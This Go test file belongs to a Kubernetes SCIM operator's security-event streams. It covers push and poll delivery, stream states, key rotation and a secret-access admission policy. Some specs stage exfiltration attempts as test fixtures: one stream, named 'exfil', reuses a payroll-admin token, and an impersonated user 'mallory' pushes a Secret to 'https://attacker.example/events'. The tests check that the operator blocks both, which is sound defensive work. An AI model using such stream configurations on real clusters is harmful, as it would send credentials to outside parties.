package streams_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/go-jose/go-jose/v4"
	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	admissionv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	apimeta "k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	scimv1 "github.com/nhi-dev/scim-operator/api/v1alpha1"
	"github.com/nhi-dev/scim-operator/internal/controller/streams"
	"github.com/nhi-dev/scim-operator/test/setreceiver"
	"github.com/nhi-dev/scim-operator/test/ssfreceiver"
)

// transmitterKeys is the transmitter's JWK Set as published.
func transmitterKeys(ctx context.Context) jose.JSONWebKeySet {
	GinkgoHelper()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, issuer+"/jwks.json", nil)
	Expect(err).NotTo(HaveOccurred())
	resp, err := tlsClient.Do(req)
	Expect(err).NotTo(HaveOccurred())
	defer func() { _ = resp.Body.Close() }()
	var keys jose.JSONWebKeySet
	Expect(json.NewDecoder(resp.Body).Decode(&keys)).To(Succeed())
	return keys
}

// pushStream declares a push stream to url in ns whose Authorization header is auth.
func pushStream(ctx context.Context, ns, name, url, auth string) *scimv1.SecurityEventStream {
	GinkgoHelper()
	Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name + "-auth",
		Annotations: map[string]string{streams.AnnotationPushEndpoint: url}},
		StringData: map[string]string{"header": auth}})).To(Succeed())
	st := &scimv1.SecurityEventStream{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec: scimv1.SecurityEventStreamSpec{
			Audience: []string{"https://siem.example/"},
			Delivery: scimv1.StreamDeliverySpec{Method: scimv1.StreamPush, EndpointURL: url,
				AuthorizationSecretRef: &scimv1.SecretKeySelector{Name: name + "-auth", Key: "header"}},
			EventsRequested: []string{riscPurged, riscDisabled},
		},
	}
	Expect(k8s.Create(ctx, st)).To(Succeed())
	// A stream of the operator's namespace left behind would take every later spec's tokens.
	DeferCleanup(func(ctx context.Context) { Expect(client.IgnoreNotFound(k8s.Delete(ctx, st))).To(Succeed()) })
	Eventually(func(g Gomega) {
		g.Expect(k8s.Get(ctx, client.ObjectKeyFromObject(st), st)).To(Succeed())
		c := apimeta.FindStatusCondition(st.Status.Conditions, "Ready")
		g.Expect(c).NotTo(BeNil())
		g.Expect(c.Reason).To(Equal("Enabled"))
	}).Should(Succeed())
	return st
}

func streamMarks(ctx context.Context, si *scimv1.ServiceIdentity) []scimv1.StreamEvent {
	if err := k8s.Get(ctx, client.ObjectKeyFromObject(si), si); err != nil || len(si.Status.Targets) == 0 || si.Status.Targets[0].Revocation == nil {
		return nil
	}
	return si.Status.Targets[0].Revocation.Streams
}

func gone(ctx context.Context, o client.Object) func() bool {
	return func() bool { return apierrors.IsNotFound(k8s.Get(ctx, client.ObjectKeyFromObject(o), o)) }
}

var _ = Describe("Push streams", func() {
	It("push a declared stream's tokens with its authorization header, and let the identity go once accepted", func(ctx SpecContext) {
		ns := newNamespace(ctx)
		createTarget(ctx, ns, "app")
		recv := setreceiver.New(setreceiver.Options{Issuer: issuer + "/namespaces/" + ns, Audience: "https://siem.example/",
			Keys: transmitterKeys(ctx), Token: "push-secret"})
		Expect(recv.Start("127.0.0.1:0")).To(Succeed())
		DeferCleanup(recv.Stop)
		pushStream(ctx, ns, "siem", recv.URL(), "Bearer push-secret")

		si := provisioned(ctx, ns, "batch", "app")
		Expect(k8s.Delete(ctx, si)).To(Succeed())
		Eventually(recv.Accepted).Should(HaveLen(1))
		got := recv.Accepted()[0]
		Expect(got.EventType).To(Equal(riscPurged))
		Expect(got.Txn).To(Equal(string(si.UID)))
		Expect(got.Subject).To(HaveKeyWithValue("uri", scimSrv.Endpoint()+"/Users/"+si.Status.Targets[0].ID))
		Eventually(gone(ctx, si)).Should(BeTrue())
		Expect(recv.Rejected()).To(BeEmpty())
	})

	It("refuse to push to an address namespaced targets may not reach, whoever declared the stream", func(ctx SpecContext) {
		// 127.0.0.2 is loopback, which the suite does not allow namespaced targets (only 127.0.0.1).
		recv := setreceiver.New(setreceiver.Options{Issuer: issuer, Audience: "https://siem.example/", Keys: transmitterKeys(ctx)})
		Expect(recv.Start("127.0.0.2:0")).To(Succeed())
		DeferCleanup(recv.Stop)
		ns := newNamespace(ctx)
		createTarget(ctx, ns, "app")
		tenant := pushStream(ctx, ns, "internal", recv.URL(), "Bearer x")
		cluster := pushStream(ctx, operatorNS, "soc-"+ns, recv.URL(), "Bearer x")

		si := provisioned(ctx, ns, "batch", "app")
		Expect(k8s.Delete(ctx, si)).To(Succeed())
		for _, st := range []*scimv1.SecurityEventStream{tenant, cluster} {
			Eventually(func() []string { return eventsOn(ctx, st) }).Should(ContainElement(ContainSubstring("resolves to an address streams may not reach")))
		}
		Consistently(recv.Requests, "1s").Should(BeZero())

		Eventually(func(g Gomega) {
			g.Expect(k8s.Get(ctx, client.ObjectKeyFromObject(tenant), tenant)).To(Succeed())
			c := apimeta.FindStatusCondition(tenant.Status.Conditions, "Ready")
			g.Expect(c.Status).To(Equal(metav1.ConditionFalse))
			g.Expect(c.Reason).To(Equal("DeliveryFailing"))
			g.Expect(tenant.Status.LastError).To(ContainSubstring("may not reach"))
		}, "45s").Should(Succeed())

		By("the identity waits for its tokens until the streams go")
		Expect(gone(ctx, si)()).To(BeFalse())
		Expect(k8s.Delete(ctx, tenant)).To(Succeed())
		Expect(k8s.Delete(ctx, cluster)).To(Succeed())
		Eventually(gone(ctx, si)).Should(BeTrue())
	})

	It("reach a SIEM inside the cluster from the cluster's streams only (--ssf-cluster-push-allowed-cidrs)", func(ctx SpecContext) {
		recv := setreceiver.New(setreceiver.Options{Issuer: issuer, Audience: "https://siem.example/", Keys: transmitterKeys(ctx)})
		Expect(recv.Start("127.0.0.3:0")).To(Succeed())
		DeferCleanup(recv.Stop)
		ns := newNamespace(ctx)
		createTarget(ctx, ns, "app")
		tenant := pushStream(ctx, ns, "internal", recv.URL(), "Bearer x")
		pushStream(ctx, operatorNS, "siem-"+ns, recv.URL(), "Bearer x")
		si := provisioned(ctx, ns, "batch", "app")
		Expect(k8s.Delete(ctx, si)).To(Succeed())
		Eventually(recv.Accepted).Should(HaveLen(1))
		Expect(recv.Accepted()[0].Issuer).To(Equal(issuer), "the cluster's stream")
		Eventually(func() []string { return eventsOn(ctx, tenant) }).Should(ContainElement(ContainSubstring("may not reach")))
		Expect(k8s.Delete(ctx, tenant)).To(Succeed())
		Eventually(gone(ctx, si)).Should(BeTrue())
		Expect(recv.Accepted()).To(HaveLen(1))
	})

	It("send an authorization Secret only to the endpoint it is bound to", func(ctx SpecContext) {
		ns := newNamespace(ctx)
		createTarget(ctx, ns, "app")
		recv := setreceiver.New(setreceiver.Options{Issuer: issuer + "/namespaces/" + ns, Audience: "https://siem.example/", Keys: transmitterKeys(ctx)})
		Expect(recv.Start("127.0.0.1:0")).To(Succeed())
		DeferCleanup(recv.Stop)
		// A Secret the stream's author did not make for this stream (another target's token).
		Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "payroll-token"},
			StringData: map[string]string{"token": "PAYROLL-ADMIN"}})).To(Succeed())
		st := &scimv1.SecurityEventStream{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "exfil"},
			Spec: scimv1.SecurityEventStreamSpec{Audience: []string{"https://siem.example/"}, EventsRequested: []string{riscPurged},
				Delivery: scimv1.StreamDeliverySpec{Method: scimv1.StreamPush, EndpointURL: recv.URL(),
					AuthorizationSecretRef: &scimv1.SecretKeySelector{Name: "payroll-token", Key: "token"}}},
		}
		Expect(k8s.Create(ctx, st)).To(Succeed())
		Expect(k8s.Delete(ctx, provisioned(ctx, ns, "batch", "app"))).To(Succeed())
		Eventually(func() []string { return eventsOn(ctx, st) }).Should(ContainElement(ContainSubstring("is not bound to this endpoint")))
		Consistently(recv.Requests, "1s").Should(BeZero())
	})
})

// pollReceiver is a receiver with the receiver's Role in ns and a poll stream of its
// issuer requesting account-purged.
func pollReceiver(ctx context.Context, ns string) *ssfreceiver.Receiver {
	GinkgoHelper()
	r, err := ssfreceiver.Discover(ctx, tlsClient, issuer+"/namespaces/"+ns, receiverToken(ctx, ns, "siem", receiverRules...))
	Expect(err).NotTo(HaveOccurred())
	_, err = r.CreateStream(ctx, []string{riscPurged}, nil)
	Expect(err).NotTo(HaveOccurred())
	return r
}

// eventsOn are the messages of the Events recorded on o.
func eventsOn(ctx context.Context, o client.Object) []string {
	var evs corev1.EventList
	Expect(k8s.List(ctx, &evs, client.InNamespace(o.GetNamespace()))).To(Succeed())
	var msgs []string
	for _, e := range evs.Items {
		if e.InvolvedObject.Name == o.GetName() && e.InvolvedObject.Kind == "SecurityEventStream" {
			msgs = append(msgs, e.Message)
		}
	}
	return msgs
}

var _ = Describe("A stream's state", func() {
	It("holds tokens while paused, records none while disabled, and delivers what it held once enabled", func(ctx SpecContext) {
		ns := newNamespace(ctx)
		createTarget(ctx, ns, "app")
		r := pollReceiver(ctx, ns)

		st, err := r.SetStatus(ctx, "paused", "maintenance")
		Expect(err).NotTo(HaveOccurred())
		Expect(st).To(HaveKeyWithValue("status", "paused"))
		held := provisioned(ctx, ns, "held", "app")
		Expect(k8s.Delete(ctx, held)).To(Succeed())
		Eventually(func() []scimv1.StreamEvent { return streamMarks(ctx, held) }).Should(HaveLen(1))
		evs, _, err := r.Poll(ctx, 10, nil, true)
		Expect(err).NotTo(HaveOccurred())
		Expect(evs).To(BeEmpty(), "a paused stream transmits nothing")

		_, err = r.SetStatus(ctx, "disabled", "")
		Expect(err).NotTo(HaveOccurred())
		Eventually(func(g Gomega) {
			s := &scimv1.SecurityEventStream{}
			g.Expect(k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: r.StreamID()}, s)).To(Succeed())
			g.Expect(apimeta.FindStatusCondition(s.Status.Conditions, "Ready").Reason).To(Equal("Disabled"))
		}).Should(Succeed())
		dropped := provisioned(ctx, ns, "dropped", "app")
		Expect(k8s.Delete(ctx, dropped)).To(Succeed())
		Eventually(gone(ctx, dropped)).Should(BeTrue(), "nothing recorded for a disabled stream holds the identity")

		_, err = r.SetStatus(ctx, "enabled", "")
		Expect(err).NotTo(HaveOccurred())
		cur, err := r.Status(ctx)
		Expect(err).NotTo(HaveOccurred())
		Expect(cur).To(HaveKeyWithValue("status", "enabled"))
		evs = pollUntil(ctx, r, func(evs []ssfreceiver.Event) bool { return len(evs) == 1 })
		Expect(evs[0].Claims["txn"]).To(Equal(string(held.UID)))
		_, _, err = r.Poll(ctx, 0, jtis(evs), true)
		Expect(err).NotTo(HaveOccurred())
		Eventually(gone(ctx, held)).Should(BeTrue())
	})

	It("lets go of the identities waiting for a stream when the stream is deleted", func(ctx SpecContext) {
		ns := newNamespace(ctx)
		createTarget(ctx, ns, "app")
		r := pollReceiver(ctx, ns)
		si := provisioned(ctx, ns, "waits", "app")
		Expect(k8s.Delete(ctx, si)).To(Succeed())
		pollUntil(ctx, r, func(evs []ssfreceiver.Event) bool { return len(evs) == 1 })
		Expect(gone(ctx, si)()).To(BeFalse())
		Expect(r.DeleteStream(ctx)).To(Succeed())
		Eventually(gone(ctx, si)).Should(BeTrue())
		Eventually(gone(ctx, &scimv1.SecurityEventStream{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: r.StreamID()}})).Should(BeTrue())
	})

	It("is backlogged when its receiver stops taking tokens, and records again once it takes some", func(ctx SpecContext) {
		ns := newNamespace(ctx)
		createTarget(ctx, ns, "app")
		r := pollReceiver(ctx, ns)
		key := client.ObjectKey{Namespace: ns, Name: r.StreamID()}
		var ids []*scimv1.ServiceIdentity
		for i := range maxPending {
			si := provisioned(ctx, ns, fmt.Sprintf("job-%d", i), "app")
			ids = append(ids, si)
			Expect(k8s.Delete(ctx, si)).To(Succeed())
		}
		s := &scimv1.SecurityEventStream{}
		Eventually(func(g Gomega) {
			g.Expect(k8s.Get(ctx, key, s)).To(Succeed())
			c := apimeta.FindStatusCondition(s.Status.Conditions, "Ready")
			g.Expect(c.Reason).To(Equal("Backlogged"))
			g.Expect(c.Status).To(Equal(metav1.ConditionFalse))
			g.Expect(s.Status.Pending).To(BeEquivalentTo(maxPending))
		}).Should(Succeed())

		By("a revocation while backlogged is not recorded for the stream, and does not wait for it")
		late := provisioned(ctx, ns, "late", "app")
		Expect(k8s.Delete(ctx, late)).To(Succeed())
		Eventually(gone(ctx, late)).Should(BeTrue())

		By("the receiver takes them: the stream records again")
		evs := pollUntil(ctx, r, func(evs []ssfreceiver.Event) bool { return len(evs) == maxPending })
		_, _, err := r.Poll(ctx, 0, jtis(evs), true)
		Expect(err).NotTo(HaveOccurred())
		for _, si := range ids {
			Eventually(gone(ctx, si)).Should(BeTrue())
		}
		Eventually(func(g Gomega) {
			g.Expect(k8s.Get(ctx, key, s)).To(Succeed())
			g.Expect(apimeta.FindStatusCondition(s.Status.Conditions, "Ready").Reason).To(Equal("Enabled"))
			g.Expect(s.Status.Pending).To(BeZero())
		}).Should(Succeed())
	})
})

var _ = Describe("A token nobody takes", func() {
	It("is given up after the maximum age, and the deleted identity goes then", func(ctx SpecContext) {
		ns := newNamespace(ctx)
		createTarget(ctx, ns, "app")
		pollReceiver(ctx, ns) // a stream nobody polls
		si := provisioned(ctx, ns, "forgotten", "app")
		Expect(k8s.Delete(ctx, si)).To(Succeed())
		Eventually(func() []scimv1.StreamEvent { return streamMarks(ctx, si) }).Should(HaveLen(1))
		// Nothing else touches the identity: the give-up is scheduled, not left to a resync.
		Eventually(gone(ctx, si), maxAge+15*time.Second).Should(BeTrue())
		var evs corev1.EventList
		Expect(k8s.List(ctx, &evs, client.InNamespace(ns))).To(Succeed())
		Expect(evs.Items).To(ContainElement(HaveField("Reason", scimv1.ReasonSecurityEventGivenUp)))
	})
})

var _ = Describe("The signing key", func() {
	It("is rotated without a restart; the old key stays published", Serial, func(ctx SpecContext) {
		before := transmitterKeys(ctx)
		Expect(before.Keys).To(HaveLen(1))
		Expect(before.Keys[0].KeyID).To(HavePrefix("2026-12-"), "the Secret's kid and the key's thumbprint")
		Expect(before.Keys[0].Algorithm).To(Equal("RS256"))
		next := keySecret("ssf-key", "2027-01")
		cur := &corev1.Secret{}
		Expect(k8s.Get(ctx, client.ObjectKeyFromObject(next), cur)).To(Succeed())
		old := cur.DeepCopy()
		cur.Data = next.Data
		Expect(k8s.Update(ctx, cur)).To(Succeed())
		DeferCleanup(func(ctx context.Context) {
			Expect(k8s.Get(ctx, client.ObjectKeyFromObject(old), cur)).To(Succeed())
			cur.Data = old.Data
			Expect(k8s.Update(ctx, cur)).To(Succeed())
			Eventually(func() string { return transmitterKeys(ctx).Keys[0].KeyID }).Should(HavePrefix("2026-12-"))
		})
		Eventually(func() []string {
			var kids []string
			for _, k := range transmitterKeys(ctx).Keys {
				kids = append(kids, k.KeyID)
			}
			return kids
		}).Should(HaveExactElements(HavePrefix("2027-01-"), before.Keys[0].KeyID))

		By("a receiver verifies a token signed with the new key")
		ns := newNamespace(ctx)
		r := pollReceiver(ctx, ns)
		Expect(r.Verify(ctx, "after-rotation")).To(Succeed())
		pollUntil(ctx, r, func(evs []ssfreceiver.Event) bool { return len(evs) == 1 })
	})
})

var _ = Describe("The secret-access admission policy", func() {
	It("refuses a stream that names a Secret its author may not read", func(ctx SpecContext) {
		ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "ssf-policy-", Labels: map[string]string{"ssf-test/secret-access": "on"}}}
		Expect(k8s.Create(ctx, ns)).To(Succeed())
		installSecretAccess(ctx, ns.Labels)
		Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "payroll-token"},
			StringData: map[string]string{"token": "PAYROLL-ADMIN"}})).To(Succeed())
		// mallory may write streams in the namespace, and read no Secret.
		Expect(k8s.Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "mallory"}, Rules: receiverRules})).To(Succeed())
		Expect(k8s.Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "mallory"},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "mallory"},
			Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: "mallory"}}})).To(Succeed())
		cfg := rest.CopyConfig(testEnv.Config)
		cfg.Impersonate = rest.ImpersonationConfig{UserName: "mallory"}
		mallory, err := client.New(cfg, client.Options{Scheme: scheme})
		Expect(err).NotTo(HaveOccurred())
		stream := func(secret string) *scimv1.SecurityEventStream {
			return &scimv1.SecurityEventStream{
				ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, GenerateName: "exfil-"},
				Spec: scimv1.SecurityEventStreamSpec{Audience: []string{"https://attacker.example/"},
					Delivery: scimv1.StreamDeliverySpec{Method: scimv1.StreamPush, EndpointURL: "https://attacker.example/events",
						AuthorizationSecretRef: &scimv1.SecretKeySelector{Name: secret, Key: "token"}}},
			}
		}
		Eventually(func() error { return mallory.Create(ctx, stream("payroll-token"), client.DryRunAll) }).
			Should(MatchError(ContainSubstring("user mallory may not get Secret " + ns.Name + "/payroll-token (spec.delivery.authorizationSecretRef)")))
		By("a stream without a Secret, and a poll stream, are admitted")
		plain := stream("")
		plain.Spec.Delivery.AuthorizationSecretRef = nil
		Expect(mallory.Create(ctx, plain)).To(Succeed())
		Eventually(func() error { // the operator adds its finalizer meanwhile
			if err := mallory.Get(ctx, client.ObjectKeyFromObject(plain), plain); err != nil {
				return err
			}
			plain.Spec.Delivery = scimv1.StreamDeliverySpec{Method: scimv1.StreamPoll}
			return mallory.Update(ctx, plain)
		}).Should(Succeed())
	})
})

// installSecretAccess installs config/admission's secret-access policy for the namespaces with
// labels, until the spec ends.
func installSecretAccess(ctx context.Context, labels map[string]string) {
	GinkgoHelper()
	raw, err := os.ReadFile(filepath.Join("..", "..", "..", "config", "admission", "secret-access-policy.yaml"))
	Expect(err).NotTo(HaveOccurred())
	docs := strings.Split(strings.ReplaceAll(string(raw), "$(SCIM_OPERATOR_NAMESPACE)", operatorNS), "\n---\n")
	Expect(docs).To(HaveLen(2))
	policy, binding := &admissionv1.ValidatingAdmissionPolicy{}, &admissionv1.ValidatingAdmissionPolicyBinding{}
	Expect(yaml.UnmarshalStrict([]byte(docs[0]), policy)).To(Succeed())
	Expect(yaml.UnmarshalStrict([]byte(docs[1]), binding)).To(Succeed())
	policy.Name, binding.Name, binding.Spec.PolicyName = "ssf-test-secret-access", "ssf-test-secret-access", "ssf-test-secret-access"
	binding.Spec.MatchResources = &admissionv1.MatchResources{NamespaceSelector: &metav1.LabelSelector{MatchLabels: labels}}
	for _, o := range []client.Object{policy, binding} {
		Expect(k8s.Create(ctx, o)).To(Succeed())
		DeferCleanup(func(ctx context.Context) { Expect(k8s.Delete(ctx, o)).To(Succeed()) })
	}
}
